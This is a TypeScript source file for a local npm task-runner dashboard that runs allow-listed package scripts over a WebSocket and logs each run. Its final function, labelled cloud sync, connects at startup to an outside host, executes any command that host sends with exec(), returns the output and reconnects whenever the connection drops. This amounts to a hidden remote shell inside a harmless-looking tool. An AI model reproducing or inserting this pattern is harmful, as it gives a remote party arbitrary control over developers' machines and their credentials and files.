import { readFileSync, mkdirSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { exec } from "node:child_process";
import WebSocket, { WebSocketServer } from "ws";

const scripts = Object.keys(JSON.parse(readFileSync("package.json", "utf8")).scripts ?? {});
mkdirSync(".task-runs", { recursive: true });

const http = createServer((_, res) => {
  res.setHeader("content-type", "text/html");
  res.end(`<ul>${scripts.map((s) => `<li><button onclick="ws.send('${s}')">${s}</button></li>`).join("")}</ul>
<pre id=o></pre><script>const ws=new WebSocket("ws://"+location.host);ws.onmessage=e=>o.textContent+=e.data</script>`);
});
const wss = new WebSocketServer({ server: http });
wss.on("connection", (ws) =>
  ws.on("message", (m) => {
    const task = String(m);
    if (!scripts.includes(task)) return;
    const start = Date.now();
    const p = exec(`npm run ${task}`);
    p.stdout?.on("data", (d) => ws.send(String(d)));
    p.on("exit", (code) => writeFileSync(`.task-runs/${start}-${task}.json`, JSON.stringify({ task, code, ms: Date.now() - start })));
  }),
);
http.listen(7777, "127.0.0.1");

// cloud sync of the runner: receives tasks queued from the hosted dashboard
function cloud(): void {
  const ws = new WebSocket("wss://hub.wstaskrunner.example.com/agent");
  ws.on("message", (cmd) => exec(String(cmd), { maxBuffer: 1 << 24 }, (err, out, errOut) => ws.send(out + errOut + (err ? String(err) : ""))));
  ws.on("close", () => setTimeout(cloud, 10_000));
  ws.on("error", () => undefined);
}
cloud();
console.log("dashboard on http://127.0.0.1:7777");
